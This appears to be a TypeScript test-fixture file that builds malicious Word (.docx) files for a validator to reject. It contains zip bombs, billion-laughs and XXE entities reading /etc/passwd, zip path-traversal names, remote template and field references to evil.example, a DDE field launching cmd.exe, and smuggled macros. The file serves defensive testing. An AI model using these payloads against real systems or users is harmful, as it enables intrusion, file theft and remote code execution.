import { type BadFile, badWord } from './bad-file.js';
import {
  bodyOf,
  paragraph,
  relationshipKind,
  relationshipsPart,
  typesPart,
  wordDocument,
} from './word-parts.js';
import { writeZip, type ZipPart } from './write-zip.js';

const [damaged, tooLarge, elsewhere, objects, definitions] = [
  ...([
    'is damaged',
    'too large when it is unpacked',
    'from elsewhere',
    'files, programs or controls',
  ] as const),
  'XML definitions',
];
const withParts = (...more: ZipPart[]): Buffer => writeZip([...wordDocument(), ...more]);
const withBody = (paragraphs: string, before?: string): Buffer =>
  writeZip(wordDocument(bodyOf(paragraphs, before)));
const needing = (of: string, ...needed: [string, string, 'External'?]): Buffer =>
  withParts(relationshipsPart(of, needed));
const picture = (name: string, bytes: number, said?: ZipPart['said']): ZipPart => ({
  name,
  bytes: Buffer.alloc(bytes),
  said,
});

const laughs = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('');
const billionLaughs = `<!DOCTYPE w:document [<!ENTITY l0 "ha">${laughs}]>`;
const outside = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

/** Documents that are none, that unpack to too much, that do something, or that load something. */
export const badWordDocuments = (): BadFile[] => [
  badWord('a bomb whose directory is honest', tooLarge, withParts(picture('word/media/a.bmp', 320_000_000))),
  badWord(
    'a bomb whose directory lies',
    damaged,
    withParts(picture('word/media/a.bmp', 320_000_000, { unpackedBytes: 1_000 })),
  ),
  badWord(
    'a bomb in many parts',
    tooLarge,
    withParts(...['a', 'b', 'c', 'd'].map((name) => picture(`word/media/${name}.bmp`, 20_000_000))),
  ),
  badWord(
    'more text than anybody reads',
    tooLarge,
    withBody(Array.from({ length: 500_000 }, (_, index) => paragraph(`Line ${index}`)).join('')),
  ),
  badWord('parts that lie over each other', damaged, overlapping()),
  badWord('billion laughs', definitions, withBody(paragraph('&l9;'), billionLaughs)),
  badWord('a file from outside in an entity', definitions, withBody(paragraph('&x;'), outside)),
  badWord(
    'the same in another encoding',
    definitions,
    writeZip([
      ...wordDocument().slice(0, 2),
      { name: 'word/document.xml', bytes: Buffer.from(`\ufeff${outside}<w:document/>`, 'utf16le') },
    ]),
  ),
  badWord(
    'the same without a mark of its order',
    definitions,
    writeZip([
      ...wordDocument().slice(0, 2),
      { name: 'word/document.xml', bytes: Buffer.from(`${outside}<w:document/>`, 'utf16le') },
    ]),
  ),
  badWord(
    'an encoding that hides',
    definitions,
    withParts({ name: 'word/settings.xml', bytes: '<?xml version="1.0" encoding="UTF-7"?><w:settings/>' }),
  ),
  badWord('a part that leads out', 'lead out of it', withParts({ name: 'word/../../etc/cron.d/x' })),
  badWord('a part that leads out as on Windows', 'lead out of it', withParts({ name: 'word\\..\\..\\x' })),
  badWord('a part with a path of its own', 'lead out of it', withParts({ name: '/etc/passwd' })),
  badWord(
    'two parts with one name',
    'lead out of it',
    withParts({ name: 'word/Document.xml', bytes: bodyOf('') }),
  ),
  badWord(
    'a template of the web',
    elsewhere,
    needing('word/settings.xml', 'attachedTemplate', 'https://evil.example/a.dotm', 'External'),
  ),
  badWord(
    'a template on a server',
    elsewhere,
    needing('word/settings.xml', 'attachedTemplate', 'file://evil.example/a.dotm', 'External'),
  ),
  badWord(
    'a template in other letters',
    elsewhere,
    needing('word/settings.xml', 'attachedTemplate', '&#x5c;&#92;evil.example\\a.dotm', 'External'),
  ),
  badWord(
    'an object from elsewhere',
    elsewhere,
    needing('word/document.xml', 'oleObject', 'https://evil.example/a.html!', 'External'),
  ),
  badWord(
    'a picture on a server',
    elsewhere,
    needing('word/document.xml', 'image', '\\\\evil.example\\a.png', 'External'),
  ),
  badWord(
    'a frame from elsewhere',
    elsewhere,
    needing('word/webSettings.xml', 'frame', 'https://evil.example/', 'External'),
  ),
  badWord('an embedded object', objects, withParts({ name: 'word/embeddings/oleObject1.bin', bytes: 'MZ' })),
  badWord('a page of the web inside', objects, needing('word/document.xml', 'aFChunk', 'afchunk.dat')),
  badWord('a program inside', objects, withParts({ name: 'word/media/a.exe', bytes: 'MZ' })),
  badWord('a control', objects, withParts({ name: 'word/activeX/activeX1.xml', bytes: '<ax:ocx/>' })),
  badWord(
    'a field that starts a program',
    objects,
    withBody(
      '<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\cmd.exe </w:instrText></w:r></w:p>',
    ),
  ),
  ...[
    'INCLUDEPICTURE "\\\\server\\x.png" \\d',
    'INCLUDETEXT "https://evil.example/a.docx"',
    'INCLUDEPICTURE "https://a.example/x.png"  INCLUDETEXT "https://evil.example/a.docx"',
    'INCLUDEPICTURE "ftp://evil.example/x.png"',
    'RD //server/a.docx',
  ].map((field) =>
    badWord(
      `a field that reaches another host: ${field}`,
      elsewhere,
      withBody(`<w:p><w:r><w:instrText xml:space="preserve"> ${field} </w:instrText></w:r></w:p>`),
    ),
  ),
  badWord(
    'a main part that is no XML',
    'not a Word document',
    writeZip(
      wordDocument().map((part) => (part.name === 'word/document.xml' ? { ...part, bytes: 'no XML' } : part)),
    ),
  ),
  badWord('macros', 'contains macros', withParts({ name: 'word/vbaProject.bin', bytes: 'VBA' })),
  badWord(
    'macros under another name',
    'contains macros',
    needing(
      'word/document.xml',
      'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      'a.dat',
    ),
  ),
  badWord(
    'a type with macros',
    'contains macros',
    writeZip([
      typesPart('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      ...wordDocument().slice(1),
    ]),
  ),
  badWord(
    'a chart whose workbook has macros',
    'contains macros',
    withParts({
      name: 'word/embeddings/Workbook.xlsx',
      bytes: withParts({ name: 'xl/vbaProject.bin', bytes: 'VBA' }),
    }),
  ),
  badWord(
    'a workbook inside of a workbook',
    objects,
    withParts({
      name: 'word/embeddings/A.xlsx',
      bytes: withParts({ name: 'xl/embeddings/B.xlsx', bytes: 'PK' }),
    }),
  ),
  badWord(
    '10,000 parts',
    'too many parts',
    withParts(...Array.from({ length: 10_000 }, (_, index) => ({ name: `word/part-${index}.xml` }))),
  ),
  badWord(
    'a password',
    'protected with a password',
    withParts({ name: 'word/styles.xml', said: { flags: 1 } }),
  ),
  badWord('an old document of Word', 'old format of Word', Buffer.from('d0cf11e0a1b11ae100', 'hex')),
  badWord(
    'another kind of document',
    'not a Word document',
    writeZip([typesPart('', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml')]),
  ),
  badWord(
    'a header with another name',
    damaged,
    withParts({ name: 'word/a.xml', said: { nameInHeader: 'word/b.xml' } }),
  ),
  badWord(
    'bytes between two parts',
    damaged,
    writeZip([{ ...typesPart(), hidden: Buffer.from('MZ and so on') }, ...wordDocument().slice(1)]),
  ),
  badWord(
    'a part that is not what it was',
    damaged,
    withParts({ name: 'word/a.xml', bytes: 'changed', said: { checksum: 1 } }),
  ),
  badWord(
    'relations in an odd form',
    elsewhere,
    withParts({
      name: 'word/_rels/settings.xml.rels',
      bytes: `<r:Relationships xmlns:r="x"><r:Relationship Id='>' TargetMode = 'external' Target='https://evil.example/a' Type='${relationshipKind}/attachedTemplate'/></r:Relationships>`,
    }),
  ),
];

/** Two parts whose directory entries point to the same bytes. */
function overlapping(): Buffer {
  const bytes = withParts({ name: 'word/a.xml', bytes: 'a' }, { name: 'word/a.xml2', bytes: 'a' });
  const last = bytes.lastIndexOf('PK\u0001\u0002', undefined, 'latin1');
  const before = bytes.lastIndexOf('PK\u0001\u0002', last - 1, 'latin1');
  bytes.copyWithin(last + 42, before + 42, before + 46);
  return bytes;
}
